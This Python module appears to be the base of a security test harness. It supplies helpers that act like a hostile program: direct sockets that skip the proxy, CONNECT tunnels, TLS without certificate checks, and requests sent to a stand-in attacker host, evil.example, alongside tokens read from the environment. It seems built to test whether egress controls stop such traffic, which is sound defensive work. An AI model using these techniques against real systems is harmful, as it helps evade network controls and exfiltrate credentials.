"""What a hostile program has at hand wherever it runs: raw sockets, TLS without a check, a proxy.

An attack is a function that takes its mark (a word of its own, found again in the logs of the
services) and returns the bytes that it saw. `main` runs those that argv names, as NAME:MARK, several
at once unless the first word is "one-by-one", and prints JSON: name -> {"seen": base64, "sent": whether anything left, "error", "seconds"}.
"""
import base64
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import unquote, urlsplit

TOKEN = os.environ.get("API_TOKEN", "")
OTHER_TOKEN = os.environ.get("OTHER_TOKEN", "")
API, OTHER, OPEN, PLAIN = (f"{name}.acme.example" for name in ("api", "other", "open", "plain"))
RULES, EVIL = "rules.acme.example", "evil.example"
EVIL_ADDRESS = os.environ.get("EVIL_ADDRESS", "")
MINE = "attacker-key-0123456789"
#: A protected target answers late; where nothing stands in the way, an answer is there or never.
WAIT = 6 if os.environ.get("PROTECTED") else 1
WORKERS = 6

ATTACKS = {}
state = threading.local()


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def proxy():
    """Host, port and authorization of the proxy that programs are told to use; None without one."""
    url = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or ""
    if not url:
        return None
    parts = urlsplit(url)
    pair = f"{unquote(parts.username or '')}:{unquote(parts.password or '')}"
    auth = f"Proxy-Authorization: Basic {base64.b64encode(pair.encode()).decode()}\r\n"
    return parts.hostname, parts.port, auth if parts.username else ""


def straight(host, port, wait=WAIT):
    """A connection of our own, past any proxy."""
    state.sent = True
    sock = socket.create_connection((host, port), wait)
    sock.settimeout(wait)
    return sock


def to_proxy(wait=WAIT):
    host, port, _ = proxy()
    return straight(host, port, wait)


def tunnel(authority, wait=WAIT, headers=""):
    """What CONNECT to `authority` (bytes or text, host:port) gives; an error when it is refused."""
    sock = to_proxy(wait)
    raw = authority if isinstance(authority, bytes) else authority.encode("latin1")
    sock.sendall(b"CONNECT " + raw + b" HTTP/1.1\r\nHost: " + raw + b"\r\n"
                 + (proxy()[2] + headers).encode("latin1") + b"\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        piece = sock.recv(1)
        if not piece:
            break
        head += piece
    if b" 200 " not in head.split(b"\r\n")[0]:
        raise OSError(f"no tunnel: {(head + drain(sock))[:300]!r}")
    return sock


def reach(host, port, wait=WAIT):
    """A connection as programs there get one: by the proxy if there is one."""
    return tunnel(f"{host}:{port}", wait) if proxy() else straight(host, port, wait)


def secure(sock, name, alpn=None):
    # Made for each, as clients do; one that reads no authorities is made at once.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    return context.wrap_socket(sock, server_hostname=name)


def tls(host=API, port=443):
    return secure(reach(host, port), host)


def request(mark, target="/", method="GET", host=API, headers=(), body=b"", auth=None, close=True):
    """`auth`: the token of a Bearer header, by default the one that belongs to `host`."""
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"X-Mark: {mark}"]
    bearer = (TOKEN if host == API else "") if auth is None else auth
    if bearer:
        lines.append(f"Authorization: Bearer {bearer}")
    lines += list(headers)
    if body or method in ("POST", "PUT"):
        lines.append(f"Content-Length: {len(body)}")
    if close:
        lines.append("Connection: close")
    return "\r\n".join(lines).encode("latin1") + b"\r\n\r\n" + body


def drain(sock, most=64 << 20):
    """Everything until the other side ends, is silent for too long, or cuts."""
    parts, length = [], 0
    try:
        while length < most:
            piece = sock.recv(65536)
            if not piece:
                break
            parts.append(piece)
            length += len(piece)
    except OSError as error:
        parts.append(f"\n[{type(error).__name__}]".encode())
    return b"".join(parts)


def talk(sock, data):
    state.sent = True
    try:
        sock.sendall(data)
    except OSError as error:
        return f"[{type(error).__name__}]".encode() + drain(sock)
    return drain(sock)


def ask(mark, target="/", host=API, **options):
    """One request over TLS."""
    with tls(host) as sock:
        return talk(sock, request(mark, target, host=host, **options))


def ask_plain(mark, target="/", host=PLAIN, **options):
    """One request in clear: in absolute form to the proxy, or straight."""
    if not proxy():
        with straight(host, 80) as sock:
            return talk(sock, request(mark, target, host=host, **options))
    return absolute(mark, f"http://{host}{target}", host, **options)


def absolute(mark, url, host, **options):
    """A request line with a whole URL. Without a proxy it goes to the attacker's own server."""
    if not proxy():
        with straight(EVIL, 80) as sock:
            return talk(sock, request(mark, url, host=host, **options))
    with to_proxy() as sock:
        lines = [proxy()[2].strip()] if proxy()[2] else []
        headers = lines + list(options.pop("headers", ()))
        return talk(sock, request(mark, url, host=host, headers=headers, **options))


def one_answer(sock):
    """Head and body of one answer with a Content-Length on a connection that goes on."""
    data = b""
    while b"\r\n\r\n" not in data:
        piece = sock.recv(65536)
        if not piece:
            return data
        data += piece
    head, _, body = data.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name.lower() == b"content-length":
            while len(body) < int(value):
                piece = sock.recv(65536)
                if not piece:
                    break
                body += piece
    return head + b"\r\n\r\n" + body


def run(word):
    name, _, mark = word.partition(":")
    began = time.monotonic()
    state.sent = False
    result = {"seen": "", "error": None}
    try:
        result["seen"] = base64.b64encode(ATTACKS[name](mark) or b"").decode()
    except Exception as error:
        result["error"] = f"{type(error).__name__}: {error}"
    result["sent"] = state.sent
    result["seconds"] = round(time.monotonic() - began, 2)
    return name, result


def main():
    words = sys.argv[1:]
    workers = WORKERS
    if words[:1] == ["one-by-one"]:
        workers, words = 1, words[1:]
    with ThreadPoolExecutor(workers) as pool:
        print(json.dumps(dict(pool.map(run, words))))
